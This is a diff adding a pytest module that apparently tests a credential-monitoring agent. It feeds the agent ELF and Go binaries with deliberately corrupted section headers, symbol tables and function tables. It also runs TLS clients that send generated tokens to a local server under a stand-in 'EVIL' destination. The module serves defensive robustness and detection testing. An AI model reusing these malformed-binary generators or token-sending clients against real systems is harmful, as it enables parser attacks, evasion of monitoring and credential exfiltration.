@@ -1,0 +1,404 @@
+# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
+"""Hostile executables and names: what any local user controls, thrown at the real agent.
+
+ELF files whose section headers lie, a Go binary whose function table (.gopclntab) lies, a
+0-byte and a 4 GiB sparse executable, process names, argv and environments full of control
+bytes, ANSI escapes, invalid UTF-8 and newlines, and cgroups named like pods and containers.
+Each test checks that the agent is still the one that started (alive, and still reporting a
+normal token in an argv), that every line it printed is valid JSON its format accepts (the
+running agent checks each line as it comes), that redaction holds and no plaintext secret
+appears, and that nothing lands on a pod or container it does not belong to.
+
+One agent runs for the whole module (starting one costs seconds); fixtures are built once.
+"""
+import ctypes
+import os
+import re
+import secrets
+import shutil
+import struct
+import subprocess
+import tempfile
+import time
+import urllib.request
+import uuid
+
+import pytest
+
+from cwtest import (github_token, host_workload, own, redacted, require_root, running_agent,
+                    wait_own, wait_until)
+from test_first_exec import C_CLIENT, DEADLINE_S
+from test_tls import EVIL, GO_CLIENT, TlsServer, _build_go, free_port
+from test_workloads import PODS_DIR, cgroup2_root
+
+ARGV = "credential-in-argv"
+EGRESS = "credential-unexpected-destination"
+
+
+@pytest.fixture(scope="module")
+def workdir():
+    d = tempfile.mkdtemp(prefix="cw-hostile-")
+    os.chmod(d, 0o755)
+    yield d
+    shutil.rmtree(d, ignore_errors=True)
+
+
+class Running:
+    """The module's agent, its metrics address and a TLS server for clients to send to."""
+
+    def __init__(self, agent, metrics, srv):
+        self.agent, self.metrics, self.srv = agent, metrics, srv
+        self.pid = agent.proc.pid
+        self.secrets = []
+
+    def held(self):
+        """Executables held at their first exec so far (credwatch_first_exec_held_total)."""
+        text = urllib.request.urlopen("http://%s/metrics" % self.metrics, timeout=5).read()
+        m = re.search(rb"^credwatch_first_exec_held_total (\d+)", text, re.M)
+        assert m, text[:2000]
+        return int(m[1])
+
+    def healthy(self):
+        """The agent that started is still running, every line so far is valid, and a normal
+        token in an argv is still reported, from the right process."""
+        a = self.agent
+        assert a.alive() and a.proc.pid == self.pid, "the agent died: " + a.stderr()[-3000:]
+        token = self.token()
+        p = subprocess.Popen(["/bin/true", "--token=" + token])
+        assert p.wait(10) == 0
+        hits = wait_own(a, token, ARGV, timeout=10)
+        assert len(hits) == 1, (hits, a.stderr()[-3000:])
+        assert hits[0]["process"]["pid"] == p.pid
+        a.assert_format()
+
+    def token(self):
+        t = github_token()
+        self.secrets.append(t)
+        return t
+
+
+@pytest.fixture(scope="module")
+def running(workdir):
+    require_root()
+    metrics = "127.0.0.1:%d" % free_port()
+    with running_agent("--include-loopback", "--events", "--metrics", metrics) as agent, \
+            TlsServer() as srv:
+        r = Running(agent, metrics, srv)
+        yield r
+        r.healthy()
+    agent.assert_no_plaintext(*r.secrets)
+
+
+# --- ELF files whose section headers lie ---------------------------------------------------
+
+EHDR_SHOFF, EHDR_SHNUM, EHDR_SHSTRNDX = 0x28, 0x3c, 0x3e
+# Elf64_Shdr fields: (offset in the header, struct format)
+SH = {"name": (0, "<I"), "type": (4, "<I"), "flags": (8, "<Q"), "addr": (16, "<Q"),
+      "offset": (24, "<Q"), "size": (32, "<Q"), "link": (40, "<I"), "info": (44, "<I"),
+      "entsize": (56, "<Q")}
+SHT_SYMTAB, SHT_DYNSYM = 2, 11
+
+
+class Elf:
+    """An ELF64 little-endian file's bytes, with its section headers by name, to lie in."""
+
+    def __init__(self, data):
+        self.b = bytearray(data)
+        assert self.b[:4] == b"\x7fELF" and self.b[4] == 2 and self.b[5] == 1
+        shoff, = struct.unpack_from("<Q", self.b, EHDR_SHOFF)
+        shnum, shstrndx = struct.unpack_from("<HH", self.b, EHDR_SHNUM)
+        self.hdrs = [shoff + 64 * i for i in range(shnum)]
+        strtab = self.get(self.hdrs[shstrndx], "offset")
+        self.by_name = {}
+        for h in self.hdrs:
+            o = strtab + self.get(h, "name")
+            self.by_name[bytes(self.b[o:self.b.index(b"\0", o)]).decode()] = h
+
+    def get(self, hdr, field):
+        off, fmt = SH[field]
+        return struct.unpack_from(fmt, self.b, hdr + off)[0]
+
+    def set(self, hdr, field, value):
+        off, fmt = SH[field]
+        struct.pack_into(fmt, self.b, hdr + off, value)
+
+    def sym_tables(self):
+        return [h for h in self.hdrs if self.get(h, "type") in (SHT_SYMTAB, SHT_DYNSYM)]
+
+
+def lie_shoff_past_end(e):
+    struct.pack_into("<Q", e.b, EHDR_SHOFF, len(e.b) + (1 << 20))
+
+
+def lie_shnum_huge(e):
+    struct.pack_into("<H", e.b, EHDR_SHNUM, 0xfeff)
+
+
+def lie_shnum_extended_huge(e):
+    # e_shnum 0: the count is section 0's sh_size (ELF extended numbering)
+    struct.pack_into("<H", e.b, EHDR_SHNUM, 0)
+    e.set(e.hdrs[0], "size", 0xffffffff)
+
+
+def lie_shstrndx_out_of_range(e):
+    struct.pack_into("<H", e.b, EHDR_SHSTRNDX, 0xfeff)
+
+
+def lie_shstrndx_extended_out_of_range(e):
+    struct.pack_into("<H", e.b, EHDR_SHSTRNDX, 0xffff)  # SHN_XINDEX: section 0's sh_link
+    e.set(e.hdrs[0], "link", 0xfffffff0)
+
+
+def lie_sections_past_end(e):
+    for h in e.hdrs[1:]:
+        e.set(h, "offset", len(e.b) + 4096 * e.hdrs.index(h))
+
+
+def lie_sections_overlap(e):
+    # every section on the symbol table's bytes, each as long as the whole file
+    base = e.get(e.sym_tables()[0], "offset")
+    for h in e.hdrs[1:]:
+        e.set(h, "offset", base)
+        e.set(h, "size", len(e.b) - base)
+
+
+def lie_symtab_runs_past(e):
+    for h in e.sym_tables():
+        e.set(h, "size", len(e.b) - e.get(h, "offset") + 24 * 1000)
+
+
+def lie_symtab_size_huge(e):
+    for h in e.sym_tables():
+        e.set(h, "size", 1 << 62)
+
+
+def lie_symtab_entsize(e):
+    for h in e.sym_tables():
+        e.set(h, "entsize", 1)
+
+
+def lie_symtab_link_out_of_range(e):
+    for h in e.sym_tables():
+        e.set(h, "link", 0xfffffff0)
+
+
+def lie_symbols_forged(e):
+    # The symbol tables' headers point at forged ones appended to the file (the loader reads
+    # the real ones through the dynamic segment, so the program still runs): names past their
+    # string table, one left unterminated at the end of the file, TLS entry points at the last
+    # byte of the code, at addresses past it, with sizes past the file.
+    text = e.by_name[".text"]
+    end = e.get(text, "addr") + e.get(text, "size") - 1
+    strtab = len(e.b)
+    names = b"\0SSL_write\0gnutls_record_send\0crypto/tls.(*Conn).Write\0"
+    e.b += names
+    syms = len(e.b)
+    sym = lambda name, value, size: struct.pack("<IBBHQQ", name, 0x12, 0, 14, value, size)
+    table = [sym(0, 0, 0), sym(1, end, 1 << 33), sym(11, end + (1 << 40), 64),
+             sym(names.index(b"crypto"), end - 4, 5)]
+    table += [sym(0xfffffff0 - i, end - i, 16) for i in range(64)]
+    # the last name, "SSL_write_ex" without its NUL, ends the file
+    table.append(sym(syms + 24 * (len(table) + 1) - strtab, end, 8))
+    e.b += b"".join(table) + b"SSL_write_ex"
+    for h in e.sym_tables():
+        e.set(h, "offset", syms)
+        e.set(h, "size", 24 * len(table))
+        e.set(h, "link", e.hdrs.index(e.by_name[".dynstr"]))
+    e.set(e.by_name[".dynstr"], "offset", strtab)
+    e.set(e.by_name[".dynstr"], "size", len(e.b) - strtab)
+
+
+def lie_text_everywhere(e):
+    # executable sections that cover the whole address space: every address "is" code
+    for h in e.hdrs[1:]:
+        if e.get(h, "flags") & 4:  # SHF_EXECINSTR
+            e.set(h, "addr", 0)
+            e.set(h, "size", (1 << 64) - 1)
+            e.set(h, "offset", (1 << 63))
+
+
+LIES = [lie_shoff_past_end, lie_shnum_huge, lie_shnum_extended_huge, lie_shstrndx_out_of_range,
+        lie_shstrndx_extended_out_of_range, lie_sections_past_end, lie_sections_overlap,
+        lie_symtab_runs_past, lie_symtab_size_huge, lie_symtab_entsize,
+        lie_symtab_link_out_of_range, lie_symbols_forged, lie_text_everywhere]
+
+
+def lying_copies(src, d, prefix):
+    """One copy of the executable src per lie in LIES, in d: [(lie's name, path)]."""
+    with open(src, "rb") as f:
+        data = f.read()
+    out = []
+    for lie in LIES:
+        e = Elf(data)
+        lie(e)
+        path = os.path.join(d, "%s-%s" % (prefix, lie.__name__[4:]))
+        with open(path, "wb") as f:
+            f.write(e.b)
+        os.chmod(path, 0o755)
+        out.append((lie.__name__[4:], path))
+    return out
+
+
+def ssl_client(d):
+    """The test's C TLS client, linked against the shared libssl."""
+    if not shutil.which("gcc") or not os.path.exists("/usr/include/openssl/ssl.h"):
+        pytest.skip("needs gcc and libssl-dev")
+    src, exe = os.path.join(d, "sslclient.c"), os.path.join(d, "sslclient")
+    with open(src, "w") as f:
+        f.write(C_CLIENT)
+    subprocess.run(["gcc", "-O2", "-o", exe, src, "-lssl", "-lcrypto"], check=True,
+                   capture_output=True, timeout=120)
+    return exe
+
+
+def test_elf_section_headers_that_lie(running, workdir):
+    """/bin/true and a libssl client with each lie: every one is held at its first exec (its
+    ELF read), its argv token is reported from it, and the lying TLS client's token is still
+    seen going out through the shared libssl."""
+    d = os.path.join(workdir, "elf")
+    os.mkdir(d)
+    trues = lying_copies("/bin/true", d, "true")
+    clients = lying_copies(ssl_client(d), d, "ssl")
+    a = running.agent
+    held0 = running.held()
+    for name, exe in trues:
+        token = running.token()
+        p = subprocess.run([exe, "--token=" + token], timeout=10)
+        assert p.returncode == 0, name
+        hits = wait_own(a, token, ARGV, timeout=10)
+        assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
+        assert hits[0]["process"]["executable"] == exe, (name, hits[0]["process"])
+        assert hits[0]["credwatch"]["credential"]["redacted"] == redacted(token)
+    for name, exe in clients:
+        token = running.token()
+        p = subprocess.run([exe, str(running.srv.port), EVIL], env={"TOKEN": token},
+                           capture_output=True, timeout=30)
+        assert p.returncode == 0, (name, p.returncode, p.stderr[-500:])
+        hits = wait_own(a, token, EGRESS, timeout=10)
+        assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
+        assert hits[0]["process"]["pid"] and hits[0]["destination"]["domain"] == EVIL
+        assert hits[0]["credwatch"]["tls"]["library"] == "openssl"
+    # each is a new executable: its first exec was held while its ELF was read
+    assert running.held() - held0 >= len(trues) + len(clients)
+    running.healthy()
+
+
+# --- a Go binary whose function table lies ------------------------------------------------
+
+GO_WRITE = b"crypto/tls.(*Conn).Write\0"
+# .gopclntab's header (Go 1.18+): magic, pads, quantum, pointer size, then 8-byte fields; the
+# runtime checks the magic and textStart, and reads the rest through its moduledata instead
+PCLN_NFUNC, PCLN_NAMES, PCLN_FUNCTAB = 8, 32, 64
+
+
+class Pclntab:
+    """A Go binary's .gopclntab: where it is in the file, and its header's offsets."""
+
+    def __init__(self, e):
+        self.e = e
+        self.hdr = e.by_name[".gopclntab"]
+        self.off, self.size = e.get(self.hdr, "offset"), e.get(self.hdr, "size")
+
+    def u64(self, at):
+        return struct.unpack_from("<Q", self.e.b, self.off + at)[0]
+
+    def set_u64(self, at, v):
+        struct.pack_into("<Q", self.e.b, self.off + at, v)
+
+    def target(self):
+        """The file offset of crypto/tls.(*Conn).Write's _func.nameOff."""
+        nfunc, names, functab = (self.u64(PCLN_NFUNC), self.u64(PCLN_NAMES),
+                                 self.u64(PCLN_FUNCTAB))
+        t = self.off + functab
+        for i in range(nfunc):
+            func, = struct.unpack_from("<I", self.e.b, t + 8 * i + 4)
+            name_at = t + func + 4
+            noff, = struct.unpack_from("<i", self.e.b, name_at)
+            o = self.off + names + noff
+            if self.e.b[o:o + len(GO_WRITE)] == GO_WRITE:
+                return name_at
+        raise AssertionError("no crypto/tls.(*Conn).Write in the test's Go client")
+
+
+def go_nfunc_past_table(p):
+    # as many functions as the table's bytes could hold: entries read from the _func data
+    # after the real table (the runtime counts its functions itself)
+    p.set_u64(PCLN_NFUNC, (p.size - p.u64(PCLN_FUNCTAB)) // 8)
+
+
+def go_nfunc_huge(p):
+    p.set_u64(PCLN_NFUNC, 1 << 61)
+
+
+def go_functab_at_end(p):
+    p.set_u64(PCLN_FUNCTAB, p.size - 8)
+    p.set_u64(PCLN_NFUNC, 1)
+
+
+def go_names_past_end(p):
+    p.set_u64(PCLN_NAMES, p.size - 4)
+
+
+def go_names_shifted(p):
+    p.set_u64(PCLN_NAMES, p.u64(PCLN_NAMES) + 1)
+
+
+def go_name_before_table(p):
+    # crypto/tls's name offset negative, reaching just before the table's first byte: an
+    # offset that wraps around and, unchecked, passes a bounds check on (offset + length)
+    struct.pack_into("<i", p.e.b, p.target(), -(p.u64(PCLN_NAMES) + 10))
+
+
+def go_section_past_end(p):
+    p.e.set(p.hdr, "offset", len(p.e.b) + (1 << 30))
+
+
+def go_section_size_huge(p):
+    p.e.set(p.hdr, "size", 1 << 62)
+
+
+GO_LIES = [go_nfunc_past_table, go_nfunc_huge, go_functab_at_end, go_names_past_end,
+           go_names_shifted, go_name_before_table, go_section_past_end, go_section_size_huge]
+# lies that leave crypto/tls.(*Conn).Write where the table says: its token is still seen
+GO_STILL_FOUND = {"nfunc_past_table"}
+
+
+@pytest.fixture(scope="module")
+def go_client(workdir):
+    d = os.path.join(workdir, "go")
+    os.mkdir(d)
+    _build_go(d, GO_CLIENT, stripped=True)  # stripped: crypto/tls is found through .gopclntab
+    return os.path.join(d, "client")
+
+
+def test_go_pclntab_that_lies(running, go_client, workdir):
+    """A stripped Go TLS client whose .gopclntab says what it should not: each copy runs as
+    fast as an honest one would (not held past the first-exec deadline) and sends its token;
+    the honest copy's token and those of lies that leave the function where it is are seen.
+    """
+    with open(go_client, "rb") as f:
+        data = f.read()
+    copies = [("honest", go_client)]
+    for lie in GO_LIES:
+        e = Elf(data)
+        lie(Pclntab(e))
+        path = os.path.join(workdir, "go", "client-" + lie.__name__[3:])
+        with open(path, "wb") as f:
+            f.write(e.b)
+        os.chmod(path, 0o755)
+        copies.append((lie.__name__[3:], path))
+    a = running.agent
+    for name, exe in copies:
+        token = running.token()
+        t0 = time.monotonic()
+        p = subprocess.run([exe, "127.0.0.1:%d" % running.srv.port, EVIL],
+                           env={"TOKEN": token}, capture_output=True, timeout=30)
+        took = time.monotonic() - t0
+        assert p.returncode == 0, (name, p.returncode, p.stderr[-800:])
+        assert took < DEADLINE_S + 1.0, (name, took)
+        if name == "honest" or name in GO_STILL_FOUND:
+            hits = wait_own(a, token, EGRESS, timeout=10)
+            assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
+            assert hits[0]["credwatch"]["tls"]["library"] == "go", hits[0]
+            assert hits[0]["destination"]["domain"] == EVIL
+    running.healthy()
